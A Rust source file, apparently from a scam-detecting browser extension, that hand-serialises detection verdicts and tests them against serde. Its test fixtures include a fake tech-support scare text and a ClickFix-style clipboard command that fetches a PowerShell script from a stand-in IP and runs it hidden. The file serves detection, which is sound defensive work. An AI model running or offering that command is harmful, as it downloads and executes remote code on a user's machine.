//! The verdict written in its wire form (src/verdict.rs's serde names) by hand, field by field:
//! the extension's Wasm builds its JS object this way instead of through serde and
//! `serde-wasm-bindgen`, whose derived serialisers and cache of interned key names cost 8.9 KB of
//! the Wasm (docs/BENCHMARKS.md, "Wasm size"). The writing is generic over [`Out`], so the same
//! code that writes JS values in the extension (`wasm::api`) is checked natively against serde's
//! own output for every `Detail` kind: the names here are a second spelling of the wire names,
//! and the test below is what keeps the two equal.

use crate::verdict::{Detail, Group, Kind, Level, Reason, Verdict};

/// A wire value (a JS value in the extension, JSON in tests).
pub trait Out: Sized {
    fn str(s: &str) -> Self;
    /// One of the wire's own names (a level, a kind, a group, a reason id, a detail's tag).
    fn name(s: &'static str) -> Self {
        Self::str(s)
    }
    fn num(n: f64) -> Self;
    fn bool(b: bool) -> Self;
    fn list(items: Vec<Self>) -> Self;
    /// An object with these fields, in this order.
    fn obj(fields: Vec<(&'static str, Self)>) -> Self;
}

fn strs<O: Out>(list: &[String]) -> O {
    O::list(list.iter().map(|s| O::str(s)).collect())
}

/// The verdict as serde writes it: `level, score, reasons, phones, kind`, then `command` when
/// there is one.
pub fn verdict<O: Out>(v: &Verdict) -> O {
    let mut fields = vec![
        ("level", O::name(level(v.level))),
        ("score", O::num(f64::from(v.score))),
        ("reasons", O::list(v.reasons.iter().map(reason).collect())),
        ("phones", strs(&v.phones)),
        ("kind", O::name(kind(v.kind))),
    ];
    if let Some(c) = &v.command {
        fields.push(("command", O::str(c)));
    }
    O::obj(fields)
}

fn reason<O: Out>(r: &Reason) -> O {
    let mut fields = vec![
        ("id", O::name(r.id.as_str())),
        ("group", O::name(group(r.group))),
        ("weight", O::num(f64::from(r.weight))),
        ("detail", detail(&r.detail)),
        ("addressed", O::bool(r.addressed)),
    ];
    if !r.text.is_empty() {
        fields.push(("text", O::str(&r.text)));
    }
    O::obj(fields)
}

/// Tagged by `kind`, the tag first.
fn detail<O: Out>(d: &Detail) -> O {
    let n = |v: u32| O::num(f64::from(v));
    let (tag, mut fields): (&'static str, Vec<(&'static str, O)>) = match d {
        Detail::Excerpt { text } => ("excerpt", vec![("text", O::str(text))]),
        Detail::Code { code } => ("code", vec![("code", O::str(code))]),
        Detail::Brand { brand, host } => (
            "brand",
            vec![("brand", O::str(brand)), ("host", O::str(host))],
        ),
        Detail::Identity { title, host } => (
            "identity",
            vec![("title", O::str(title)), ("host", O::str(host))],
        ),
        Detail::Phones { numbers } => ("phones", vec![("numbers", strs(numbers))]),
        Detail::Count { count } => ("count", vec![("count", n(*count))]),
        Detail::InputLock { keyboard, pointer } => (
            "input_lock",
            vec![("keyboard", n(*keyboard)), ("pointer", n(*pointer))],
        ),
        Detail::Audio {
            media,
            audio,
            speech,
        } => (
            "audio",
            vec![
                ("media", n(*media)),
                ("audio", n(*audio)),
                ("speech", n(*speech)),
            ],
        ),
        Detail::InputCapture { keys, menu } => (
            "input_capture",
            vec![("keys", n(*keys)), ("menu", n(*menu))],
        ),
        Detail::Popups {
            windows,
            notifications,
        } => (
            "popups",
            vec![
                ("windows", n(*windows)),
                ("notifications", n(*notifications)),
            ],
        ),
        Detail::Cursor { hidden } => ("cursor", vec![("hidden", O::bool(*hidden))]),
        Detail::Score { score } => ("score", vec![("score", O::num(f64::from(*score)))]),
    };
    fields.insert(0, ("kind", O::name(tag)));
    O::obj(fields)
}

fn level(l: Level) -> &'static str {
    match l {
        Level::Safe => "safe",
        Level::Suspicious => "suspicious",
        Level::Scam => "scam",
    }
}

fn kind(k: Kind) -> &'static str {
    match k {
        Kind::TechSupport => "tech_support",
        Kind::Clickfix => "clickfix",
        Kind::Account => "account",
        Kind::Parcel => "parcel",
        Kind::Refund => "refund",
        Kind::Other => "other",
    }
}

fn group(g: Group) -> &'static str {
    match g {
        Group::Impersonation => "impersonation",
        Group::Scare => "scare",
        Group::CallToAction => "call_to_action",
        Group::Payment => "payment",
        Group::Lock => "lock",
        Group::Clipboard => "clipboard",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::verdict::ReasonId;

    /// JSON text, written in the order the fields are given: compared with serde_json's text of
    /// the same value, it checks the names, the values and the order (the JS object's order).
    #[derive(Debug, PartialEq)]
    struct Json(String);

    impl Out for Json {
        fn str(s: &str) -> Self {
            Json(serde_json::to_string(s).unwrap_or_default())
        }
        fn num(n: f64) -> Self {
            Json(serde_json::to_string(&n).unwrap_or_default())
        }
        fn bool(b: bool) -> Self {
            Json(b.to_string())
        }
        fn list(items: Vec<Self>) -> Self {
            let items: Vec<String> = items.into_iter().map(|j| j.0).collect();
            Json(["[", &items.join(","), "]"].concat())
        }
        fn obj(fields: Vec<(&'static str, Self)>) -> Self {
            let fields: Vec<String> = fields
                .into_iter()
                .map(|(k, v)| [&Self::str(k).0, ":", &v.0].concat())
                .collect();
            Json(["{", &fields.join(","), "}"].concat())
        }
    }

    /// serde writes an `f32` as the shortest decimal of the `f32`, JS (and `Out::num`) gets the
    /// `f64` of it: the same number, a longer decimal. Compared as the values JSON reads back.
    fn same(v: &Verdict) {
        let ours: Json = verdict(v);
        let serde = serde_json::to_string(v).unwrap_or_default();
        assert_eq!(parse(&ours.0), parse(&serde), "{} vs {serde}", ours.0);
        assert!(parse(&serde).is_some());
        assert_eq!(keys(&ours.0), keys(&serde));
    }

    /// The JSON value with every number read as the `f32` it was written from.
    fn parse(json: &str) -> Option<serde_json::Value> {
        fn f32s(v: serde_json::Value) -> serde_json::Value {
            use serde_json::Value;
            match v {
                Value::Number(n) => Value::from(n.as_f64().unwrap_or(f64::NAN) as f32),
                Value::Array(a) => Value::Array(a.into_iter().map(f32s).collect()),
                Value::Object(o) => {
                    Value::Object(o.into_iter().map(|(k, v)| (k, f32s(v))).collect())
                }
                v => v,
            }
        }
        serde_json::from_str(json).ok().map(f32s)
    }

    /// Every key of a JSON text in order of appearance (strings followed by `:`).
    fn keys(json: &str) -> Vec<String> {
        let mut out = Vec::new();
        let mut rest = json;
        while let Some(i) = rest.find("\":") {
            let head = &rest[..i];
            let start = head.rfind('"').map_or(0, |j| j + 1);
            out.push(head[start..].to_string());
            rest = &rest[i + 2..];
        }
        out
    }

    fn every_detail() -> Vec<Detail> {
        vec![
            Detail::Excerpt {
                text: "your \"computer\" is locked\n\u{1}".into(),
            },
            Detail::Code {
                code: "0x80070424".into(),
            },
            Detail::Brand {
                brand: "Microsoft".into(),
                host: "alert.example".into(),
            },
            Detail::Identity {
                title: "Security Center".into(),
                host: "help.example".into(),
            },
            Detail::Phones {
                numbers: vec!["+1 555 0100".into(), "+1 555 0199".into()],
            },
            Detail::Count { count: 7 },
            Detail::InputLock {
                keyboard: 1,
                pointer: 2,
            },
            Detail::Audio {
                media: 3,
                audio: 4,
                speech: u32::MAX,
            },
            Detail::InputCapture { keys: 5, menu: 6 },
            Detail::Popups {
                windows: 8,
                notifications: 9,
            },
            Detail::Cursor { hidden: true },
            Detail::Cursor { hidden: false },
            Detail::Score { score: 2.7 },
        ]
    }

    #[test]
    fn every_detail_kind_reason_and_field_as_serde_writes_it() {
        let groups = [
            Group::Impersonation,
            Group::Scare,
            Group::CallToAction,
            Group::Payment,
            Group::Lock,
            Group::Clipboard,
        ];
        let kinds = [
            Kind::TechSupport,
            Kind::Clickfix,
            Kind::Account,
            Kind::Parcel,
            Kind::Refund,
            Kind::Other,
        ];
        let details = every_detail();
        let reasons: Vec<Reason> = ReasonId::ALL
            .iter()
            .enumerate()
            .map(|(i, id)| Reason {
                id: *id,
                group: groups[i % groups.len()],
                weight: 0.1 + i as f32 / 3.0,
                detail: details[i % details.len()].clone(),
                addressed: i % 2 == 0,
                text: if i % 3 == 0 {
                    String::new()
                } else {
                    "An English sentence".into()
                },
            })
            .collect();
        for (i, k) in kinds.iter().enumerate() {
            for level in [Level::Safe, Level::Suspicious, Level::Scam] {
                same(&Verdict {
                    level,
                    score: 1.0 / (i as f32 + 3.0),
                    reasons: reasons.clone(),
                    phones: vec!["1-800-555-0100".into()],
                    kind: *k,
                    command: (i % 2 == 0).then(|| "powershell -w h …".to_string()),
                });
            }
        }
        same(&Verdict::default());
        for d in details {
            let ours: Json = detail(&d);
            let serde = serde_json::to_string(&d).unwrap_or_default();
            assert_eq!(keys(&ours.0), keys(&serde));
            assert_eq!(parse(&ours.0), parse(&serde));
        }
    }

    /// The engine's own verdicts, on pages that give many reasons.
    #[test]
    fn the_engines_verdicts_as_serde_writes_them() {
        let text = "Windows Defender alert: your computer is infected with spyware. Do not close \
                    this window. Call support now at +1-800-555-0177 (toll free). Error code \
                    0x80070424. Your files will be deleted.";
        let mut s = crate::Snapshot {
            url: "https://example.github.io/x/?phone=18005550177".into(),
            title: "Security alert".into(),
            text: text.into(),
            ..Default::default()
        };
        s.behaviour.fullscreen = 2;
        s.behaviour.dialogs = 5;
        s.behaviour.keyboard_lock = 1;
        s.behaviour.media_play = 1;
        s.dom.hidden_cursor = true;
        let v = crate::analyse(&s, &crate::Options::default());
        assert!(v.reasons.len() > 5, "{v:?}");
        same(&v);
        s.clipboard.text = "powershell -w hidden -c iwr http://1.2.3.4/a.ps1 | iex".into();
        s.clipboard.via = "writeText".into();
        s.text = "Verify you are human: press Win+R, then Ctrl+V and Enter.".into();
        same(&crate::analyse(&s, &crate::Options { strict: true }));
    }
}
